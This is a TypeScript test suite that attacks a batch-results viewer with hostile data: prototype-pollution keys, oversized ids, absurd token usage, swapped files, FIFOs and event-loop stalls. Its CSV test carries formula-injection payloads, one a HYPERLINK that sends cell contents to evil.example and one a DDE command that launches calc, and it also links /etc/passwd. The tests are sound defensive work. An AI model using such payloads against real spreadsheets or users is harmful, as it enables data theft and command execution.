// Attacks on the results viewer's data work (issue 11): hostile values in results and input files, files that
// change under the model, absurd usage numbers, and inputs large enough to stall the extension host.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildOutcomeIndex } from '../../src/core/results/outcomeIndex';
import { parseResultLine } from '../../src/core/results/outputLine';
import { buildResultsModel, csvCell, exportCsv, exportJsonl, maxFieldColumns, normalizeQuery, NotAResultsFileError, pageOf, queryResults, ResultsChangedError, summarizeResults } from '../../src/core/results/viewModel';

const chatInput = (id: string, body: Record<string, unknown> = {}) => JSON.stringify({ custom_id: id, method: 'POST', url: '/chat/completions', body: { model: 'gpt-4o-batch', messages: [{ role: 'user', content: `q ${id}` }], ...body } });
const chatBody = (content: string, usage: Record<string, unknown> = { prompt_tokens: 10, completion_tokens: 5 }) => ({ object: 'chat.completion', model: 'gpt-4o-2024-08-06', choices: [{ index: 0, message: { role: 'assistant', content } }], usage });
const joined = (id: string, body: unknown) => JSON.stringify({ custom_id: id, status: 'succeeded', status_code: 200, response: body, error: null });
const structuredInput = (id: string) => chatInput(id, { response_format: { type: 'json_schema', json_schema: { name: 'Counts', schema: { type: 'object', properties: { total: { type: 'number' } } } } } });

describe('attack: results viewer data', () => {
  let dir: string;
  beforeEach(() => (dir = mkdtempSync(join(tmpdir(), 'aoai-attack-viewer-'))));
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const files = (input: string[], results: string[]) => {
    const inputPath = join(dir, 'in.jsonl');
    const resultsPath = join(dir, 'in.results.jsonl');
    writeFileSync(inputPath, input.join('\n') + '\n');
    writeFileSync(resultsPath, results.join('\n') + '\n');
    return { inputPath, resultsPath };
  };

  it('keeps field columns bounded when structured answers use data as keys (one new key per row)', async () => {
    const ids = Array.from({ length: 3000 }, (_, i) => `r${i}`);
    const { inputPath, resultsPath } = files(
      ids.map(structuredInput),
      ids.map((id, i) => joined(id, chatBody(JSON.stringify({ total: i, [`word_${i}`]: 1 })))),
    );
    const model = await buildResultsModel(resultsPath, { inputPath });
    assert.equal(model.rowCount, 3000);
    assert.ok(model.fields.length <= maxFieldColumns, `${model.fields.length} field columns`);
    assert.equal(model.fields[0]!.name, 'total', 'the schema property stays first');
    assert.equal(pageOf(model, queryResults(model), 2999, 1)[0]!.fields.total, 2999);
  });

  it('keeps a field named __proto__ as a field, not the prototype', async () => {
    const { inputPath, resultsPath } = files([structuredInput('a')], [joined('a', chatBody('{"total": 1, "__proto__": "x", "constructor": 2}'))]);
    const model = await buildResultsModel(resultsPath, { inputPath });
    const fields = pageOf(model, queryResults(model), 0, 1)[0]!.fields;
    assert.equal(Object.getPrototypeOf(fields), Object.prototype);
    assert.equal(Object.getOwnPropertyDescriptor(fields, '__proto__')?.value, 'x');
    assert.equal(fields.constructor, 2);
  });

  it('cuts a huge custom_id to the grid length in pages (each page is posted to the webview)', async () => {
    const id = 'x'.repeat(2_000_000);
    const { inputPath, resultsPath } = files([chatInput(id)], [joined(id, chatBody('hi'))]);
    const model = await buildResultsModel(resultsPath, { inputPath });
    const [row] = pageOf(model, queryResults(model), 0, 1);
    assert.ok(row!.customId.length <= 500, `${row!.customId.length} characters of custom_id in a page row`);
    assert.equal((await model.detail(0)).customId.length, id.length, 'the detail still has the whole id');
  });

  it('neutralizes formulas in every CSV column: custom_id, error, prompt, answer, structured fields and their names', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const input = [chatInput(evil, { messages: [{ role: 'user', content: '+cmd|" /C calc"!A0' }], response_format: { type: 'json_schema', json_schema: { name: 'E', schema: { type: 'object', properties: { '@name': { type: 'string' } } } } } })];
    const results = [joined(evil, chatBody(JSON.stringify({ '@name': '-2+3', '=field': '\t=1', note: '\r=2' })))];
    const { inputPath, resultsPath } = files(input, results);
    const model = await buildResultsModel(resultsPath, { inputPath });
    const csv = join(dir, 'out.csv');
    await exportCsv(model, queryResults(model), csv);
    const cells = parseCsv(readFileSync(csv, 'utf8').replace(/^\ufeff/, ''));
    assert.equal(cells.length, 2);
    for (const cell of cells.flat()) {
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
    }
    assert.ok(cells[1]!.includes(`'${evil}`));
    assert.equal(csvCell('a\u0000b'), 'a\u0000b');
  });

  it('never exports another row\'s line as JSONL when the results file changed since the model was built', async () => {
    const { inputPath, resultsPath } = files([chatInput('a'), chatInput('b')], [joined('a', chatBody('one')), joined('b', chatBody('two'))]);
    const model = await buildResultsModel(resultsPath, { inputPath });
    // Same byte lengths, rows swapped: offsets still land on whole lines, but of the other row.
    writeFileSync(resultsPath, [joined('b', chatBody('two')), joined('a', chatBody('one'))].join('\n') + '\n');
    const out = join(dir, 'out.jsonl');
    await assert.rejects(exportJsonl(model, queryResults(model), out), ResultsChangedError);
    await assert.rejects(exportCsv(model, queryResults(model), join(dir, 'out.csv')), ResultsChangedError);
    assert.deepEqual(readdirSync(dir).sort(), ['in.jsonl', 'in.results.jsonl'], 'no export and no temporary file left');
    const detail = await model.detail(0);
    assert.equal(detail.changed, true);
    assert.equal(detail.result, undefined, 'the detail does not show row b as row a');
  });

  it('counts no negative, non-finite or absurd token usage and no negative cost', async () => {
    const ids = ['neg', 'huge', 'str', 'nan'];
    const usages: Record<string, unknown>[] = [{ prompt_tokens: -1_000_000_000, completion_tokens: -5 }, { prompt_tokens: 1e308, completion_tokens: 1e308 }, { prompt_tokens: '100', completion_tokens: '5' }, { prompt_tokens: null, completion_tokens: {} }];
    const { inputPath, resultsPath } = files(ids.map((id) => chatInput(id)), ids.map((id, i) => joined(id, chatBody('ok', usages[i]))));
    const model = await buildResultsModel(resultsPath, { inputPath });
    const { totals } = summarizeResults(model);
    for (const value of [totals.inputTokens, totals.outputTokens, totals.cost]) {
      assert.ok(Number.isFinite(value) && value >= 0, `total ${value}`);
    }
  });

  it('takes no absurd usage into the summary\'s tokens and actual cost either', () => {
    const line = (usage: unknown) => parseResultLine(JSON.stringify({ custom_id: 'a', response: { status_code: 200, body: { model: 'gpt-4o', usage } }, error: null }));
    for (const usage of [{ prompt_tokens: -1e9, completion_tokens: -1 }, { prompt_tokens: 1e308, completion_tokens: Infinity }, { prompt_tokens: '7', completion_tokens: 1.5 }]) {
      const parsed = line(usage);
      assert.deepEqual([parsed.promptTokens, parsed.completionTokens], [0, 0], JSON.stringify(usage));
    }
    assert.deepEqual([line({ input_tokens: 7, output_tokens: 3 }).promptTokens, line({ input_tokens: 7, output_tokens: 3 }).completionTokens], [7, 3]);
  });

  it('normalizes a query of any shape from the webview to one the model can run', () => {
    assert.deepEqual(normalizeQuery(null), {});
    assert.deepEqual(normalizeQuery('x'), {});
    assert.deepEqual(normalizeQuery({ statuses: 'failed', codes: 'abc', structured: ['ok', 'bogus'], search: 1, sort: { column: '__proto__', descending: 'yes' } }), { structured: ['ok'] });
    assert.deepEqual(normalizeQuery({ statuses: ['failed', 'exploded'], codes: ['429', 7], search: ' a ', sort: { column: 'field:score', descending: true } }), {
      statuses: ['failed'],
      codes: ['429'],
      search: ' a ',
      sort: { column: 'field:score', descending: true },
    });
  });

  it('refuses a results path that is a FIFO, a device behind a symbolic link, or a folder, at once', async () => {
    const fifo = join(dir, 'fifo.results.jsonl');
    execFileSync('mkfifo', [fifo]);
    const device = join(dir, 'zero.results.jsonl');
    symlinkSync('/dev/zero', device);
    const folder = join(dir, 'folder.results.jsonl');
    mkdirSync(folder);
    for (const path of [fifo, device, folder]) {
      const timeout = new Promise((_, reject) => setTimeout(() => reject(new Error(`${path} still being read`)), 2000).unref());
      await assert.rejects(Promise.race([buildResultsModel(path), timeout]), NotAResultsFileError);
    }
    // A symbolic link to a regular file is read: its lines are not results, and are reported as such.
    const passwd = join(dir, 'passwd.results.jsonl');
    symlinkSync('/etc/passwd', passwd);
    const model = await buildResultsModel(passwd);
    assert.equal(model.rowCount, 0);
    assert.ok(model.report.malformedCount > 0);
  });

  it('sorts ids with numbers in them as the collator does, without asking it for each pair', async () => {
    let seed = 7;
    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    const shapes = [(n: number) => `request-${n}`, (n: number) => `Request-0${n}`, (n: number) => `a${n % 13}b${n}`, (n: number) => `${n}`, (n: number) => `x${'9'.repeat(n % 20)}`, (n: number) => `r${n}.${n % 3}`];
    const ids = Array.from({ length: 3000 }, (_, i) => shapes[i % shapes.length]!(Math.floor(random() * 5000)));
    const resultsPath = join(dir, 'n.results.jsonl');
    writeFileSync(resultsPath, ids.map((id) => joined(id, chatBody('x'))).join('\n') + '\n');
    const model = await buildResultsModel(resultsPath);
    const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
    const expected = [...ids.keys()].sort((a, b) => collator.compare(ids[a]!, ids[b]!) || a - b);
    assert.deepEqual([...queryResults(model, { sort: { column: 'custom_id' } }).rows], expected);
  });

  it('sorts a field column with huge and infinite numbers before its text, the text in order', async () => {
    const answers = ['{"total": "b"}', '{"total": 1e308}', '{"total": "a"}', '{"total": 5}', '{"total": 1e999}', '{"total": -1e308}', '{"total": true}'];
    const ids = answers.map((_, i) => `r${i}`);
    const { inputPath, resultsPath } = files(ids.map(structuredInput), ids.map((id, i) => joined(id, chatBody(answers[i]!))));
    const model = await buildResultsModel(resultsPath, { inputPath });
    const order = (descending: boolean) => [...queryResults(model, { sort: { column: 'field:total', descending } }).rows].map((row) => ids[row]);
    assert.deepEqual(order(false), ['r5', 'r6', 'r3', 'r1', 'r4', 'r2', 'r0']);
    assert.deepEqual(order(true), ['r0', 'r2', 'r4', 'r1', 'r3', 'r6', 'r5']);
  });

  it('answers a hover on a request whose result line is 100 MB with its status, without reading the line again', async () => {
    const resultsPath = join(dir, 'big.results.jsonl');
    writeFileSync(resultsPath, joined('big', chatBody('z'.repeat(100 * 1024 * 1024))) + '\n' + joined('small', chatBody('s')) + '\n');
    const index = await buildOutcomeIndex(resultsPath);
    const start = performance.now();
    const info = index.lookup('big');
    const ms = performance.now() - start;
    assert.deepEqual(info, { status: 'succeeded', statusCode: 200 });
    assert.ok(ms < 50, `the hover took ${ms.toFixed(0)} ms`);
    assert.equal(index.lookup('small')?.preview, 's', 'a short line still has its preview');
  });

  describe('event loop', function () {
    this.timeout(180_000);
    /**
     * The longest run of the event loop without a turn while `work` runs, counted in the process's CPU time, and
     * how many turns it gave. CPU time, not wall time: on a loaded machine the process waits for a core, and that
     * wait is not a stall the work caused (wall-clock bounds here failed at 742 ms on a busy CI machine).
     */
    const longestStall = async (work: () => Promise<unknown>): Promise<number> => {
      const cpuNow = () => {
        const usage = process.cpuUsage();
        return (usage.user + usage.system) / 1000;
      };
      let last = cpuNow();
      let longest = 0;
      let turns = 0;
      let running = true;
      const turn = () => {
        const now = cpuNow();
        longest = Math.max(longest, now - last);
        last = now;
        turns++;
        if (running) setTimeout(turn, 1);
      };
      setTimeout(turn, 1);
      await work();
      running = false;
      turn();
      assert.ok(turns > 2, `the work gave the event loop ${turns} turns: it ran in one piece`);
      return longest;
    };

    it('builds 1,000,000 tiny rows without stalling the host', async () => {
      const line = (i: number) => `{"custom_id":"r${i}","status":"succeeded","status_code":200,"response":{"choices":[{"message":{"content":"a"}}]},"error":null}`;
      const resultsPath = join(dir, 'many.results.jsonl');
      writeFileSync(resultsPath, Array.from({ length: 1_000_000 }, (_, i) => line(i)).join('\n') + '\n');
      let model;
      const stall = await longestStall(async () => (model = await buildResultsModel(resultsPath)));
      assert.equal(model!.rowCount, 1_000_000);
      console.log(`      longest stall building 1,000,000 rows: ${stall.toFixed(0)} ms on CPU`);
      assert.ok(stall < 500, `stalled ${stall} ms`);
    });

    it('builds a results file with a 100 MB line without stalling the host for long', async () => {
      const resultsPath = join(dir, 'big.results.jsonl');
      writeFileSync(resultsPath, joined('big', chatBody('z'.repeat(100 * 1024 * 1024))) + '\n' + joined('small', chatBody('s')) + '\n');
      let model;
      const stall = await longestStall(async () => (model = await buildResultsModel(resultsPath)));
      console.log(`      longest stall building a 100 MB line: ${stall.toFixed(0)} ms on CPU`);
      assert.ok(model!.rowCount >= 1);
      assert.ok(stall < 2000, `stalled ${stall} ms`);
    });
  });
});

/** RFC 4180 cells, enough for these tests. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}
